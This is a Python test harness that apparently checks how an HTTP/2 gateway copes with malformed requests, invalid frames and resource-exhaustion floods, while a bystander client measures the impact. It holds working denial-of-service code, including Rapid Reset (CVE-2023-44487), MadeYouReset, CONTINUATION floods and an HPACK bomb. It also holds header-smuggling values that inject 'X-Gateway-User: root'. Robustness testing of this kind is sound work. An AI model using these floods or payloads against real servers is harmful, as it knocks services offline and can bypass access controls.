#!/usr/bin/env python3
"""Frames that no good client sends: http2_hostile.py SET HOST:PORT CA.

SET is `malformed`, `frames` or `floods`. Each case has a connection of its own and prints a line, its name and the
outcome: `goaway CODE`, `reset CODE` or the status of the answer; `closed` and `silence` where nothing was said. Meanwhile
another client asks on without a pause; the last line says how many of its requests were answered with 200, how many
were not, and the slowest in milliseconds.

The frames are made with hyperframe, the field blocks with hpack or by hand.
"""
import os
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(address, authority, source=None):
    """TLS with ALPN h2; the address is host:port, the source an address of this machine to come from."""
    host, port = address.rsplit(":", 1)
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((host, int(port)), 20, (source, 0) if source else None)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    secure = context.wrap_socket(plain, server_hostname="localhost")
    assert secure.selected_alpn_protocol() == "h2", "no HTTP/2"
    return secure


class Ended(Exception):
    """The gateway has ended the connection."""


class Attacker:
    """One connection: sends frames as they are told, and reads what comes for the outcome."""

    def __init__(self, address, authority, preface=PREFACE, settings=None, source=None):
        self.socket = connect(address, authority, source)
        self.socket.setblocking(False)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.received = bytearray()
        self.outcome = None
        self.credits = 0
        self.raw(preface)
        if settings is not None:
            self.send(frames.SettingsFrame(0, settings=settings))

    # Sending

    def raw(self, data):
        view = memoryview(data)
        deadline = time.monotonic() + 20
        while view:
            self.read()
            try:
                view = view[self.socket.send(view):]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                if time.monotonic() > deadline:
                    raise Ended from None
                time.sleep(0.001)
            except OSError:
                raise Ended from None

    def send(self, *list_of_frames):
        self.raw(b"".join(frame.serialize() for frame in list_of_frames))

    def block(self, fields):
        return self.encoder.encode(fields, huffman=False)

    def headers(self, stream, fields=(), flags=("END_HEADERS", "END_STREAM"), block=None, base=None):
        fields = list(REQUEST if base is None else base) + list(fields)
        data = self.block(fields) if block is None else block
        return frames.HeadersFrame(stream, data, flags=flags)

    # Reading

    def read(self):
        """Takes what is there, without waiting."""
        while True:
            try:
                data = self.socket.recv(65_536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                data = b""
            if not data:
                self.look()
                self.outcome = self.outcome or "closed"
                raise Ended
            self.received += data
            self.look()

    def look(self):
        while len(self.received) >= 9:
            frame, length = frames.Frame.parse_frame_header(memoryview(self.received)[:9])
            if len(self.received) < 9 + length:
                return
            body = bytes(self.received[9:9 + length])
            del self.received[:9 + length]
            frame.parse_body(memoryview(body))
            if isinstance(frame, frames.GoAwayFrame) and frame.error_code:
                # An error of the connection is the last word, whatever streams were told before.
                self.outcome = f"goaway {frame.error_code}"
            elif isinstance(frame, frames.RstStreamFrame) and frame.error_code:
                self.outcome = self.outcome or f"reset {frame.error_code}"
            elif isinstance(frame, frames.HeadersFrame):
                fields = dict(self.decoder.decode(frame.data))
                self.outcome = self.outcome or fields.get(":status")

    def wait(self, seconds=10):
        """The outcome; a connection that stays open gives its first answer."""
        deadline = time.monotonic() + seconds
        try:
            while self.outcome is None and time.monotonic() < deadline:
                self.read()
                time.sleep(0.002)
        except Ended:
            pass
        return self.outcome or "silence"

    def wait_for_end(self, seconds=10):
        """The last word; for errors of connection that come after other answers."""
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline and not (self.outcome or "").startswith("goaway"):
                self.read()
                time.sleep(0.002)
        except Ended:
            pass
        return self.outcome or "silence"


# The request and the upload below as blocks that the state of no table has a part in.
REQUEST_BLOCK = b"\x82\x87\x01\x09localhost\x04\x0d/open/hostile"
UPLOAD_BLOCK = b"\x83" + REQUEST_BLOCK[1:]
REQUEST = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/open/hostile")]
UPLOAD = [(":method", "POST")] + REQUEST[1:]


def without(name):
    return [field for field in REQUEST if field[0] != name]


def replaced(name, value):
    return [(field[0], value if field[0] == name else field[1]) for field in REQUEST]


# Requests that are malformed (RFC 9113 section 8.1.1): fields behind those of a good one, or in place of them.
MALFORMED = {
    "upper_case_name": {"fields": [("X-Upper", "1")]},
    "connection_field": {"fields": [("connection", "close")]},
    "keep_alive_field": {"fields": [("keep-alive", "5")]},
    "proxy_connection_field": {"fields": [("proxy-connection", "close")]},
    "transfer_encoding_field": {"fields": [("transfer-encoding", "chunked")]},
    "upgrade_field": {"fields": [("upgrade", "websocket")]},
    "te_gzip": {"fields": [("te", "gzip")]},
    "no_method": {"base": without(":method")},
    "no_scheme": {"base": without(":scheme")},
    "no_path": {"base": without(":path")},
    "no_authority_no_host": {"base": without(":authority")},
    "empty_path": {"base": replaced(":path", "")},
    "path_without_slash": {"base": replaced(":path", "open/hostile")},
    "path_absolute": {"base": replaced(":path", "https://localhost/open/hostile")},
    "path_fragment": {"base": replaced(":path", "/open/hostile#x")},
    "path_space": {"base": replaced(":path", "/open/hos tile")},
    "path_line_break": {"base": replaced(":path", "/open/hostile HTTP/1.1\r\nX-Gateway-User: root")},
    "method_space": {"base": replaced(":method", "GET /")},
    "scheme_other": {"base": replaced(":scheme", "ftp")},
    "authority_userinfo": {"base": replaced(":authority", "root@localhost")},
    "authority_space": {"base": replaced(":authority", "local host")},
    "authority_two": {"base": replaced(":authority", "localhost,evil.net")},
    "host_conflict": {"fields": [("host", "evil.net")]},
    "host_twice": {"fields": [("host", "localhost"), ("host", "localhost")]},
    "method_twice": {"fields": [], "base": REQUEST + [(":method", "GET")]},
    "path_twice": {"base": REQUEST + [(":path", "/open/hostile")]},
    "authority_twice": {"base": REQUEST + [(":authority", "localhost")]},
    "unknown_pseudo": {"base": REQUEST + [(":version", "1")]},
    "response_pseudo": {"base": REQUEST + [(":status", "200")]},
    "pseudo_after_field": {"base": REQUEST[:3], "fields": [("x", "1"), REQUEST[3]]},
    "protocol_without_connect": {"base": REQUEST + [(":protocol", "websocket")]},
    "connect": {"base": [(":method", "CONNECT"), (":authority", "localhost:443")]},
    "value_line_feed": {"fields": [("x-split", "a\nx-gateway-user: root")]},
    "value_return": {"fields": [("x-split", "a\rb")]},
    "value_zero": {"fields": [("x-split", "a\0b")]},
    "value_leading_space": {"fields": [("x-split", " a")]},
    "name_empty": {"fields": [("", "a")]},
    "name_space": {"fields": [("x split", "a")]},
    "name_colon": {"fields": [("x:split", "a")]},
    "name_line_feed": {"fields": [("x\nsplit", "a")]},
    "length_without_body": {"fields": [("content-length", "5")]},
    "length_signed": {"base": UPLOAD, "fields": [("content-length", "+5")]},
    "length_list": {"base": UPLOAD, "fields": [("content-length", "5, 5")]},
    "length_twice": {"base": UPLOAD, "fields": [("content-length", "0"), ("content-length", "0")]},
}


def malformed(attacker, name):
    attacker.send(attacker.headers(1, **MALFORMED[name]))
    return attacker.wait()


def length(attacker, stated, sent):
    attacker.send(
        attacker.headers(1, [("content-length", str(stated))], ["END_HEADERS"], base=UPLOAD),
        frames.DataFrame(1, b"x" * sent, flags=["END_STREAM"]))
    return attacker.wait()


def trailers(attacker, fields, flags=("END_HEADERS", "END_STREAM")):
    attacker.send(
        attacker.headers(1, (), ["END_HEADERS"], base=UPLOAD), frames.DataFrame(1, b"body"),
        attacker.headers(1, fields, flags, base=[]))
    return attacker.wait()


MALFORMED_BODIES = {
    "body_shorter_than_length": lambda a: length(a, 10, 5),
    "body_longer_than_length": lambda a: length(a, 5, 10),
    "trailer_pseudo": lambda a: trailers(a, [(":path", "/open/other")]),
    "trailer_upper_case": lambda a: trailers(a, [("X-Sum", "1")]),
    "trailer_without_end": lambda a: trailers(a, [("x-sum", "1")], ["END_HEADERS"]),
}


# Frames that are errors by themselves (RFC 9113 sections 4 to 6).

def raw_frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(identifier, value):
    return lambda a: a.raw(raw_frame(4, 0, 0, identifier.to_bytes(2, "big") + value.to_bytes(4, "big")))


def open_upload(attacker, stream=1):
    attacker.send(attacker.headers(stream, (), ["END_HEADERS"], base=UPLOAD))


def after(first, *then):
    def run(attacker):
        first(attacker)
        for data in then:
            attacker.raw(data)
    return run


def request(attacker):
    attacker.send(attacker.headers(1))


def ended_then(data):
    """In one piece: what comes once the request is answered finds a stream that nobody knows any more."""
    def run(attacker):
        attacker.raw(attacker.headers(1).serialize() + data(attacker))
    return run


FRAMES = {
    "even_stream": lambda a: a.send(a.headers(2)),
    "stream_going_back": lambda a: a.send(a.headers(5), a.headers(3)),
    "headers_on_stream_0": lambda a: a.raw(raw_frame(1, 5, 0, a.block(REQUEST))),
    "frame_too_large": after(open_upload, raw_frame(0, 0, 1, b"x" * 16_385)),
    "data_on_idle_stream": lambda a: a.raw(raw_frame(0, 1, 1, b"x")),
    "data_on_stream_0": lambda a: a.raw(raw_frame(0, 1, 0, b"x")),
    "headers_after_end": ended_then(lambda a: a.headers(1).serialize()),
    "data_after_end": ended_then(lambda a: raw_frame(0, 1, 1, b"x")),
    "continuation_alone": lambda a: a.raw(raw_frame(9, 4, 1, a.block(REQUEST))),
    "block_interrupted": lambda a: a.send(a.headers(1, flags=["END_STREAM"]), frames.PingFrame(0, b"12345678")),
    "block_of_another_stream": lambda a: a.send(
        a.headers(1, flags=["END_STREAM"]), frames.ContinuationFrame(3, b"", flags=["END_HEADERS"])),
    "hpack_no_such_index": lambda a: a.send(a.headers(1, block=b"\xff\x80\x80\x01")),
    "hpack_endless_integer": lambda a: a.send(a.headers(1, block=b"\xff" + b"\xff" * 20)),
    "hpack_bad_huffman": lambda a: a.send(a.headers(1, block=b"\x00\x84\xff\xff\xff\xff\x01a")),
    "hpack_table_too_large": lambda a: a.send(a.headers(1, block=b"\x3f\xe1\xff\xff\x01")),
    "hpack_cut_off": lambda a: a.send(a.headers(1, block=b"\x00\x0aabc")),
    "padding_too_long": after(open_upload, raw_frame(0, 8, 1, b"\xffxxxx")),
    "priority_short": lambda a: a.raw(raw_frame(2, 0, 1, b"\0\0\0\0")),
    "reset_idle_stream": lambda a: a.raw(raw_frame(3, 0, 1, b"\0\0\0\x08")),
    "reset_short": after(open_upload, raw_frame(3, 0, 1, b"\0\0\0")),
    "settings_on_a_stream": lambda a: a.raw(raw_frame(4, 0, 1, b"")),
    "settings_short": lambda a: a.raw(raw_frame(4, 0, 0, b"\0\x03\0")),
    "settings_ack_with_payload": lambda a: a.raw(raw_frame(4, 1, 0, b"\0\x03\0\0\0\x01")),
    "setting_push_2": setting(2, 2),
    "setting_window_too_large": setting(4, 1 << 31),
    "setting_frame_size_1": setting(5, 1),
    "push_promise": after(open_upload, raw_frame(5, 4, 1, b"\0\0\0\x02")),
    "ping_short": lambda a: a.raw(raw_frame(6, 0, 0, b"1234567")),
    "ping_on_a_stream": lambda a: a.raw(raw_frame(6, 0, 1, b"12345678")),
    "window_update_zero": lambda a: a.raw(raw_frame(8, 0, 0, b"\0\0\0\0")),
    "window_update_zero_of_stream": after(open_upload, raw_frame(8, 0, 1, b"\0\0\0\0")),
    "window_update_short": lambda a: a.raw(raw_frame(8, 0, 0, b"\0\0\x01")),
    "window_overflow": lambda a: a.raw(raw_frame(8, 0, 0, b"\x7f\xff\xff\xff") * 2),
    "window_overflow_of_stream": after(open_upload, raw_frame(8, 0, 1, b"\x7f\xff\xff\xff") * 2),
    "window_update_idle_stream": lambda a: a.raw(raw_frame(8, 0, 1, b"\0\0\0\x01")),
    "goaway_on_a_stream": lambda a: a.raw(raw_frame(7, 0, 1, bytes(8))),
    "unknown_frame_then_request": lambda a: (a.raw(raw_frame(0xfa, 0xff, 0, b"grease")), request(a)),
    "unknown_setting_then_request": lambda a: (setting(0xfafa, 1)(a), request(a)),
}

# Where the connection does not begin as it should.
BEGINNINGS = {
    "wrong_preface": (b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", None),
    "http_1": (b"GET /open/hostile HTTP/1.1\r\nHost: localhost\r\n\r\n", None),
    "first_frame_not_settings": (PREFACE + raw_frame(6, 0, 0, b"12345678"), None),
}


# Floods: cheap for who sends them, dear for who takes them.

def repeat(attacker, data, count, batch=100):
    """Sends `data(i)` for i up to `count`, reading on."""
    for start in range(0, count, batch):
        attacker.raw(b"".join(data(i) for i in range(start, min(start + batch, count))))


def rapid_reset(attacker):
    """CVE-2023-44487"""
    repeat(attacker, lambda i: raw_frame(1, 5, 2 * i + 1, REQUEST_BLOCK) + raw_frame(3, 0, 2 * i + 1, b"\0\0\0\x08"), 20_000)


def made_you_reset(attacker):
    """CVE-2025-8671: the gateway is brought to reset the streams itself."""
    overflow = b"\x7f\xff\xff\xff"
    repeat(
        attacker,
        lambda i: raw_frame(1, 4, 2 * i + 1, UPLOAD_BLOCK) + raw_frame(8, 0, 2 * i + 1, overflow), 20_000)


def continuation_flood(attacker):
    attacker.send(attacker.headers(1, flags=["END_STREAM"]))
    repeat(attacker, lambda i: raw_frame(9, 0, 1, b"\x00\x01a\x01b" * 2000), 5000, 10)


def empty_continuation_flood(attacker):
    attacker.send(attacker.headers(1, flags=["END_STREAM"]))
    repeat(attacker, lambda i: raw_frame(9, 0, 1, b""), 50_000)


def hpack_bomb(attacker):
    """A field of 4,000 bytes in the table, then named by one byte, 8,000 times in each request."""
    bomb = b"\x40\x01b\x7f\xa1\x1e" + b"x" * 4000
    attacker.send(attacker.headers(1, block=REQUEST_BLOCK + bomb))
    repeat(attacker, lambda i: raw_frame(1, 5, 2 * i + 3, REQUEST_BLOCK + b"\xbe" * 8000), 2000, 5)


def ping_without_reading(attacker):
    """PING, and no look at what comes back until all are sent or the gateway takes no more."""
    attacker.read = lambda: None
    try:
        repeat(attacker, lambda i: raw_frame(6, 0, 0, b"12345678"), 300_000, 1000)
    finally:
        del attacker.read


FLOODS = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "empty_continuation_flood": empty_continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": lambda a: repeat(a, lambda i: raw_frame(4, 0, 0, b""), 50_000),
    "ping_flood": lambda a: repeat(a, lambda i: raw_frame(6, 0, 0, b"12345678"), 50_000),
    "ping_flood_unread": ping_without_reading,
    "priority_flood": lambda a: repeat(a, lambda i: raw_frame(2, 0, 1, b"\0\0\0\x03\x10"), 50_000),
    "window_update_flood": lambda a: repeat(a, lambda i: raw_frame(8, 0, 0, b"\0\0\0\x01"), 50_000),
    "empty_data_flood": after(open_upload, raw_frame(0, 0, 1, b"") * 50_000),
    "padding_flood": lambda a: (open_upload(a), repeat(a, lambda i: raw_frame(0, 8, 1, b"\x00"), 50_000)),
}


class Bystander(threading.Thread):
    """A good client on one connection of its own, asking one thing after the other."""

    def __init__(self, address, authority):
        super().__init__(daemon=True)
        self.address, self.authority = address, authority
        self.good = self.bad = 0
        self.slowest = 0.0
        self.over = threading.Event()

    def run(self):
        try:
            self.ask()
        except OSError:
            self.bad += 1

    def ask(self):
        wire = connect(self.address, self.authority)
        http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        http.initiate_connection()
        wire.sendall(http.data_to_send())
        while not self.over.is_set():
            began = time.monotonic()
            stream = http.get_next_available_stream_id()
            http.send_headers(stream, [(n, v.replace("hostile", "good")) for n, v in REQUEST], end_stream=True)
            wire.sendall(http.data_to_send())
            if self.answer(http, wire) == "200":
                self.good += 1
            else:
                self.bad += 1
                return
            self.slowest = max(self.slowest, time.monotonic() - began)

    @staticmethod
    def answer(http, wire):
        status = None
        while True:
            data = wire.recv(65_536)
            if not data:
                return None
            for event in http.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers)[":status"]
                elif isinstance(event, h2.events.DataReceived):
                    http.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    wire.sendall(http.data_to_send())
                    return status
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return None
            wire.sendall(http.data_to_send())


def run(name, address, authority, attack, connection_ends):
    attacker = Attacker(address, authority, settings={})
    try:
        attack(attacker)
    except Ended:
        pass
    print(name, attacker.wait_for_end() if connection_ends else attacker.wait(), flush=True)
    attacker.socket.close()


def main(chosen, address, authority):
    bystander = Bystander(address, authority)
    bystander.start()
    if chosen == "malformed":
        for name in MALFORMED:
            run(name, address, authority, lambda a: malformed(a, name), False)
        for name, attack in MALFORMED_BODIES.items():
            run(name, address, authority, attack, False)
    elif chosen == "frames":
        for name, (preface, settings) in BEGINNINGS.items():
            attacker = Attacker(address, authority, preface, settings)
            print(name, attacker.wait_for_end(), flush=True)
        for name, attack in FRAMES.items():
            run(name, address, authority, attack, not name.endswith(("_request", "_of_stream", "_after_end")))
    else:
        for name, attack in FLOODS.items():
            run(name, address, authority, attack, True)
    bystander.over.set()
    bystander.join(20)
    print("bystander", bystander.good, bystander.bad, int(bystander.slowest * 1000))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3])
    sys.stdout.flush()
    os._exit(0)
